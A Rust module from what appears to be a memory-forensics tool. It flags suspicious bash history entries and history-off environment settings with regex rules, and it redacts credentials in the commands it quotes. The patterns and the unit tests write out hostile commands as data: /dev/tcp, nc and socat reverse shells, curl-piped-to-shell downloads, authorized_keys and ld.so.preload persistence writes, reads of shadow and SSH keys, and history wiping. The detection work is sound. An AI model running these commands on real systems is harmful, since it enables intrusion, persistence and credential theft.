//! Shell history rules: the commands of a bash process's in-memory history
//! ([`crate::model::bash_history`], `PID/bash_history`) an analyst reads first, and history
//! switched off in a shell's environment.
//!
//! Each finding names the history entry by its address (`<where>`: the `HIST_ENTRY`, whose first
//! word points at the line) and its time, and quotes the command with credential values
//! redacted ([`redact_command`]). One finding per entry and rule ([`RULES`], in that order).

use std::sync::OnceLock;

use regex::Regex;

use super::{Finding, Strength, credential_name};
use crate::model::bash_history;
use crate::model::process::Process;

/// A history rule: its tag, strength, what it says, and its pattern (over the command line).
pub struct Rule {
    pub tag: &'static str,
    pub strength: Strength,
    pub why: &'static str,
    pattern: &'static str,
}

/// The rules, in the order their findings are listed. `hist-credential-export` is
/// [`exports_credential`], not a pattern.
pub const RULES: [Rule; 5] = [
    Rule {
        tag: "hist-reverse-shell",
        strength: Strength::Strong,
        why: "a reverse shell: a shell's input and output on a network connection",
        pattern: concat!(
            r"/dev/(?:tcp|udp)/[^/\s]+/[0-9]+",
            r"|\b(?:nc|ncat|netcat|nc\.traditional|nc\.openbsd)\b[^|;&\n]*\s-[A-Za-z]*[ec]\b",
            r"|\bsocat\b[^\n]*\b(?:exec|system):",
            r"|\bmkfifo\b[^\n]*\|\s*(?:nc|ncat|netcat)\b",
        ),
    },
    Rule {
        tag: "hist-download-exec",
        strength: Strength::Strong,
        why: "download and execute: fetched code run unseen",
        pattern: concat!(
            r"\b(?:curl|wget)\b[^|\n]*\|\s*(?:sudo\s+(?:-\S+\s+)*)?(?:\S*/)?(?:(?:ba|da|z|k|a)?sh|python[0-9.]*|perl|ruby)\b",
            r"|\b(?:(?:ba|da|z|k)?sh|eval|source|\.)\s[^\n]*(?:<\(|\$\(|`)\s*(?:curl|wget)\b",
        ),
    },
    Rule {
        tag: "hist-persistence",
        strength: Strength::Strong,
        why: "writes where attackers persist: SSH keys, cron, the preload list, sudoers, services",
        pattern: concat!(
            r"(?:>|\btee\b|\bcp\b|\bmv\b|\binstall\b|\bln\b|\bof=|\bsed\s+-i)[^|;&\n]*?",
            r"(?:authorized_keys2?\b|/etc/ld\.so\.preload\b|/etc/crontab\b|/etc/cron\.(?:d|hourly|daily|weekly|monthly)/",
            r"|/var/spool/cron/|/etc/sudoers\b|/etc/rc\.local\b|/etc/systemd/system/|/etc/init\.d/)",
            r"|\bcrontab(?:\s+-u\s+\S+)?\s+(?:-e\b|-r\b|-\s*$|-\s|[^\s-])",
        ),
    },
    Rule {
        tag: "hist-credential-file",
        strength: Strength::Weak,
        why: "reads or copies a credential store",
        pattern: concat!(
            r"/etc/g?shadow\b|\.aws/credentials\b|\.ssh/id_(?:rsa|dsa|ecdsa|ed25519)(?:[^.\w]|$)",
            r"|\.docker/config\.json\b|\.kube/config\b|\.git-credentials\b|\.netrc\b|\.pgpass\b",
            r"|\.vault-token\b|/run/secrets/",
        ),
    },
    Rule {
        tag: "hist-tamper",
        strength: Strength::Strong,
        why: "hides the shell's history",
        pattern: concat!(
            r"\bunset\s+(?:-v\s+)?HIST(?:FILE|SIZE|FILESIZE)\b",
            r#"|\bHISTFILE=(?:/dev/null\b|\s|$|''|"")"#,
            r"|\bHIST(?:FILE)?SIZE=0\b",
            r"|\bhistory\s+-(?:c|d\s*\S+)",
            r"|\bset\s+\+o\s+history\b",
            r"|(?:\brm\b|\bshred\b|\btruncate\b|>)[^|;&\n]*\.(?:bash|zsh|sh|ash)_history\b",
            r"|\bln\s+-[a-z]*s[a-z]*\s+/dev/null\s+\S*_history\b",
        ),
    },
];

/// The tag of a command exporting a credential-named variable.
pub const EXPORT_TAG: &str = "hist-credential-export";

fn compiled() -> &'static [Regex] {
    static RE: OnceLock<Vec<Regex>> = OnceLock::new();
    RE.get_or_init(|| {
        RULES
            .iter()
            .map(|r| Regex::new(r.pattern).expect("a valid pattern"))
            .collect()
    })
}

/// The rules a command line raises, in [`RULES`] order, [`EXPORT_TAG`] (as a rule of its own)
/// after `hist-credential-file`: (tag, strength, why).
pub fn rules_raised(line: &str) -> Vec<(&'static str, Strength, &'static str)> {
    let mut out = Vec::new();
    for (r, re) in RULES.iter().zip(compiled()) {
        if r.tag == "hist-tamper" && exports_credential(line) {
            out.push((
                EXPORT_TAG,
                Strength::Weak,
                "exports a credential-named variable",
            ));
        }
        if re.is_match(line) {
            out.push((r.tag, r.strength, r.why));
        }
    }
    out
}

/// Words of a command line: split at blanks and at `;`, `&`, `|` (kept as words of their own).
fn words(line: &str) -> Vec<&str> {
    let mut out = Vec::new();
    for w in line.split_whitespace() {
        let mut rest = w;
        while let Some(i) = rest.find([';', '&', '|']) {
            if i > 0 {
                out.push(&rest[..i]);
            }
            out.push(&rest[i..i + 1]);
            rest = &rest[i + 1..];
        }
        if !rest.is_empty() {
            out.push(rest);
        }
    }
    out
}

/// Whether a command exports a variable whose name looks like a credential
/// ([`credential_name`]) with a value: `export NAME=VALUE`, `declare -x` / `typeset -x
/// NAME=VALUE`, `setenv NAME VALUE` (csh).
pub fn exports_credential(line: &str) -> bool {
    let w = words(line);
    let mut i = 0;
    while i < w.len() {
        let exporting = match w[i] {
            "export" => true,
            "declare" | "typeset" => w
                .get(i + 1)
                .is_some_and(|o| o.starts_with('-') && !o.starts_with("--") && o.contains('x')),
            "setenv" => {
                if let (Some(n), Some(v)) = (w.get(i + 1), w.get(i + 2))
                    && credential_name(n)
                    && !matches!(*v, ";" | "&" | "|")
                {
                    return true;
                }
                false
            }
            _ => false,
        };
        i += 1;
        if !exporting {
            continue;
        }
        while i < w.len() && !matches!(w[i], ";" | "&" | "|") {
            if let Some((n, v)) = w[i].split_once('=')
                && credential_name(n)
                && !v.is_empty()
            {
                return true;
            }
            i += 1;
        }
    }
    false
}

fn url_password() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| {
        Regex::new(r"(?i)\b([a-z][a-z0-9+.\-]*://[^\s/:@]*:)([^\s/@]+)@").expect("a valid pattern")
    })
}

fn assignment() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| {
        Regex::new(r#"(^|[\s;&|(])([A-Za-z_][A-Za-z0-9_.-]*=)("[^"]*"|'[^']*'|[^\s;&|'"]+)"#)
            .expect("a valid pattern")
    })
}

fn option() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| {
        Regex::new(
            r#"(^|\s)(--?[A-Za-z][A-Za-z0-9_-]*)(=|\s+)("[^"]*"|'[^']*'|[^\s;&|'"-][^\s;&|'"]*)"#,
        )
        .expect("a valid pattern")
    })
}

/// The command line as a finding quotes it: the value of every `NAME=VALUE` and every option
/// `--NAME VALUE` / `--NAME=VALUE` whose name looks like a credential ([`credential_name`]),
/// the password of a `scheme://user:pass@` URL and
/// every value of a format [`super::credentials`] knows are redacted
/// ([`super::credentials::redact`]).
pub fn redact_command(line: &str) -> String {
    let s = assignment().replace_all(line, |c: &regex::Captures<'_>| {
        let name = c[2].trim_end_matches('=');
        if credential_name(name) {
            let v = c[3].trim_matches(|q| q == '"' || q == '\'');
            format!(
                "{}{}{}",
                &c[1],
                &c[2],
                super::credentials::redact(v.as_bytes())
            )
        } else {
            c[0].to_string()
        }
    });
    let s = option().replace_all(&s, |c: &regex::Captures<'_>| {
        if credential_name(c[2].trim_start_matches('-')) {
            let v = c[4].trim_matches(|q| q == '"' || q == '\'');
            format!(
                "{}{}{}{}",
                &c[1],
                &c[2],
                &c[3],
                super::credentials::redact(v.as_bytes())
            )
        } else {
            c[0].to_string()
        }
    });
    let s = url_password().replace_all(&s, |c: &regex::Captures<'_>| {
        format!("{}{}@", &c[1], super::credentials::redact(c[2].as_bytes()))
    });
    super::credentials::redact_known(&s)
}

/// **Shell history** of a bash process (`PID/bash_history`): each entry that raises a rule
/// ([`RULES`], [`exports_credential`]), one finding per entry and rule: `<where>` the entry's
/// address, then its time (UTC, when bash recorded one) and the command, redacted.
pub fn shell_history(p: &Process) -> Vec<Finding> {
    if !bash_history::is_bash(p) {
        return Vec::new();
    }
    let mut out = Vec::new();
    for e in bash_history::recover(p) {
        let line = String::from_utf8_lossy(&e.line);
        for (tag, strength, why) in rules_raised(&line) {
            let time = e.time.map_or_else(
                || "time unknown".to_string(),
                |t| crate::format::time::rfc3339(i64::try_from(t).unwrap_or(i64::MAX)),
            );
            out.push(Finding::new(
                p.pid,
                format!("{:x}", e.addr),
                tag,
                strength,
                format!("history entry of {time}: {} ({why})", redact_command(&line)),
            ));
        }
    }
    out
}

/// **History switched off in a shell's environment** (`PID/environ`): `HISTFILE` empty or
/// `/dev/null`, `HISTSIZE=0` or `HISTFILESIZE=0` in the initial environment of a shell
/// ([`super::identity::shells`]). `<where>` the string's address. Tag `hist-tamper`, weak (an
/// image may set it for hygiene; a command doing it is strong, see [`RULES`]).
pub fn history_off_env(p: &Process) -> Vec<Finding> {
    let Some(mm) = &p.mm else { return Vec::new() };
    if super::identity::shells(p).is_empty() {
        return Vec::new();
    }
    let Ok(env) = super::super::cmdline::environ(p) else {
        return Vec::new();
    };
    let mut out = Vec::new();
    let mut off = 0u64;
    for s in env.split(|&b| b == 0) {
        let off_here = off;
        off = off.saturating_add(s.len() as u64 + 1);
        let off_str = matches!(
            s,
            b"HISTFILE=" | b"HISTFILE=/dev/null" | b"HISTSIZE=0" | b"HISTFILESIZE=0"
        );
        if off_str {
            out.push(Finding::new(
                p.pid,
                format!("{:x}", mm.env_start.saturating_add(off_here)),
                "hist-tamper",
                Strength::Weak,
                format!(
                    "history switched off in environ: {}",
                    String::from_utf8_lossy(s)
                ),
            ));
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn tags(line: &str) -> Vec<&'static str> {
        rules_raised(line).into_iter().map(|r| r.0).collect()
    }

    #[test]
    fn each_rule_and_its_near_misses() {
        let cases: [(&str, &[&str]); 32] = [
            (
                "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
                &["hist-reverse-shell"],
            ),
            ("nc -e /bin/sh 10.0.0.1 4444", &["hist-reverse-shell"]),
            ("ncat 10.0.0.1 4444 -e /bin/bash", &["hist-reverse-shell"]),
            (
                "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f",
                &["hist-reverse-shell"],
            ),
            (
                "socat tcp:10.0.0.1:4444 exec:/bin/sh",
                &["hist-reverse-shell"],
            ),
            ("nc -zv db 5432", &[]),
            (
                "curl -fsSL http://198.51.100.7/x.sh | sh",
                &["hist-download-exec"],
            ),
            ("wget -qO- http://x/y | sudo bash", &["hist-download-exec"]),
            ("curl -s https://x/i.py | python3", &["hist-download-exec"]),
            (
                "bash -c \"$(curl -fsSL https://x/install.sh)\"",
                &["hist-download-exec"],
            ),
            ("curl -o x.tar.gz https://x/x.tar.gz", &[]),
            ("curl -s https://api/x | jq .", &[]),
            (
                "echo 'ssh-ed25519 AAAA k' >> /root/.ssh/authorized_keys",
                &["hist-persistence"],
            ),
            ("echo '* * * * * /tmp/x' | crontab -", &["hist-persistence"]),
            (
                "echo /tmp/.l.so > /etc/ld.so.preload",
                &["hist-persistence"],
            ),
            ("cp x.service /etc/systemd/system/", &["hist-persistence"]),
            ("crontab -l", &[]),
            ("ls -l /root/.ssh/authorized_keys", &[]),
            ("cat /etc/shadow", &["hist-credential-file"]),
            (
                "tar czf /tmp/k.tgz /root/.aws/credentials /root/.ssh/id_rsa",
                &["hist-credential-file"],
            ),
            (
                "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
                &["hist-credential-file"],
            ),
            ("cat ~/.ssh/id_rsa.pub", &[]),
            ("cat /etc/passwd", &[]),
            ("export SECRET_TOKEN=abc", &["hist-credential-export"]),
            (
                "export PATH=/bin; declare -x DB_PASSWORD='x y'",
                &["hist-credential-export"],
            ),
            ("export AWS_SECRET_ACCESS_KEY", &[]),
            ("export TOKENIZERS_PARALLELISM=false", &[]),
            ("unset HISTFILE", &["hist-tamper"]),
            ("export HISTFILE=/dev/null", &["hist-tamper"]),
            ("history -c", &["hist-tamper"]),
            ("shred -u ~/.bash_history", &["hist-tamper"]),
            ("history", &[]),
        ];
        for (line, want) in cases {
            assert_eq!(tags(line), want, "{line}");
        }
        assert_eq!(
            tags("curl http://x/a | sh; unset HISTFILE"),
            ["hist-download-exec", "hist-tamper"]
        );
    }

    #[test]
    fn commands_are_quoted_redacted() {
        assert_eq!(
            redact_command("export SECRET_TOKEN=IMPLANT-HIST-SECRETTOKEN-5d2e-s2"),
            "export SECRET_TOKEN=IMPL...s2 (32 chars)"
        );
        assert_eq!(
            redact_command("PGPASSWORD='hunter2' psql -h db"),
            "PGPASSWORD=[7 chars] psql -h db"
        );
        assert_eq!(
            redact_command("psql postgres://app:Vx93kTsecretpw@db:5432/app"),
            "psql postgres://app:Vx93...pw (14 chars)@db:5432/app"
        );
        assert_eq!(
            redact_command("aws configure set aws_access_key_id AKIAIOSFODNN7EXAMPLE"),
            "aws configure set aws_access_key_id AKIA...LE (20 chars)"
        );
        assert_eq!(redact_command("ls -l LANG=C"), "ls -l LANG=C");
        assert_eq!(
            redact_command("mysql -u root --password=hunter2hunter2 db"),
            "mysql -u root --password=hunt...r2 (14 chars) db"
        );
        assert_eq!(
            redact_command("redis-cli --pass 's3cr3t' -n 1"),
            "redis-cli --pass [6 chars] -n 1"
        );
        assert_eq!(redact_command("passwd --stdin root"), "passwd --stdin root");
    }

    /// docs/views.md's tag table has a row for every tag these rules and the memory credential
    /// rule raise.
    #[test]
    fn tags_are_documented() {
        let doc = include_str!("../../../docs/views.md");
        let tags = RULES
            .iter()
            .map(|r| r.tag)
            .chain([EXPORT_TAG, "mem-credential"]);
        for tag in tags {
            assert!(
                doc.contains(&format!("\n| `{tag}` | ")),
                "{tag} not in docs/views.md"
            );
        }
    }
}
